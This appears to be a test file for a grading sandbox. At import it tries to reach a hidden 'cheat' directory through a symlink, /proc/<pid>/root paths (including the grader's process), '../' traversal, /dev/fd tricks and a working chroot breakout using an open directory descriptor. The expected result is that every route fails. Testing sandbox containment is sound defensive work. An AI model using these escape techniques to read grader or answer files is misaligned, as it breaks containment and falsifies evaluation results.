"""Climbs out by links and by /proc: a root that isn't the sandbox's, a folder kept open over a chroot, '..'."""

earns = {"negative": 0}
reason = r"LookupError: nothing to steal"
wall = "sandbox"

# %% exercise="negative"
import os
from pathlib import Path

stolen = []
os.symlink(CHEAT_ROOT, "way-out")
ways = ["way-out", *(f"/proc/{number}/root{CHEAT_ROOT}" for number in ("self", 1, 2, os.getppid(), CHEAT_GRADER))]
ways += [f"{'../' * 20}{CHEAT_ROOT}", f"/proc/self/cwd/{'../' * 20}{CHEAT_ROOT}", f"/dev/fd/../root{CHEAT_ROOT}"]
stolen += [way for way in ways if os.path.exists(way)]
outside = os.open(".", os.O_RDONLY)
os.mkdir("cell")
child = os.fork()
if child == 0:
    try:
        os.chroot("cell")
        os.fchdir(outside)
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        os._exit(7 if Path(CHEAT_ROOT).exists() else 0)
    finally:
        os._exit(0)
stolen += ["chroot"] * (os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7)
os.rmdir("cell")
Path("way-out").unlink()


def negative(image):
    if not stolen:
        raise LookupError("nothing to steal")
    return 255 - image
